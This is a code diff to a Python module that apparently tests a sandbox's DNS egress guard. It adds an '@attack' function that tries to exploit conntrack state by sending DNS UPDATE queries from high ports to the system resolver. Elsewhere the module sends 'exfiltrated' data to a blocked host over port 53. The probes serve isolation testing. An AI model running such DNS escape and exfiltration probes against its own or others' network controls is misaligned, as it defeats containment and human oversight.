@@ -1,10 +1,11 @@
 """DNS as a way out: other servers, other transports, data in names."""
+import errno
 import random
 import socket
 import struct
 import time
 
-from tools import BLOCKED, BLOCKED6, GATEWAY, PATIENCE, attack, tcp, udp, worst
+from tools import BLOCKED, BLOCKED6, GATEWAY, PATIENCE, attack, outcome, tcp, udp, worst
 
 CODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}
 SECRET = "exfiltrated.unlisted.lab"  # on no list
@@ -124,6 +125,43 @@ def dns_not_dns_tcp():
         s.connect((BLOCKED, 53))
         s.sendall(b"exfiltrated" * 9)
         return "answered" if s.recv(99) else "closed"
+
+
+def updates(server, ports):
+    """The outcomes of an update, from each of these ports: something that the guard answers otherwise than the server."""
+    said, asked = set(), []
+    for port in ports:
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.settimeout(PATIENCE)
+        try:
+            s.bind(("0.0.0.0", port))
+            s.sendto(question(SECRET, 6, 1, 0x2800), (server, 53))
+            asked.append(s)
+        except OSError as failure:
+            s.close()
+            if failure.errno != errno.EADDRINUSE:
+                said.add(outcome(failure))
+    for s in asked:
+        said.add(rcode(s.recv(4096)))
+        s.close()
+    return said
+
+
+@attack
+def dns_taken_over():
+    """From each port to the server: the guard's own questions went by some of them, and conntrack takes who sends there for one
+    who goes on with them. The guard has none of those that the kernel gives away by itself."""
+    for kind in (1, 28, 15, 16, 33, 65):
+        ask(GATEWAY, question("api.anthropic.com", kind))
+    time.sleep(1)  # until the guard has closed its sockets
+    with open("/etc/resolv.conf") as lines:
+        server = next(line.split()[1] for line in lines if line.startswith("nameserver "))
+    with open("/proc/sys/net/ipv4/ip_local_port_range") as text:
+        last = int(text.read().split()[1])
+    said = set()
+    for first in range(last + 1, 65536, 64):
+        said |= updates(server, range(first, min(first + 64, 65536)))
+    return "+".join(sorted(said))
 
 
 @attack
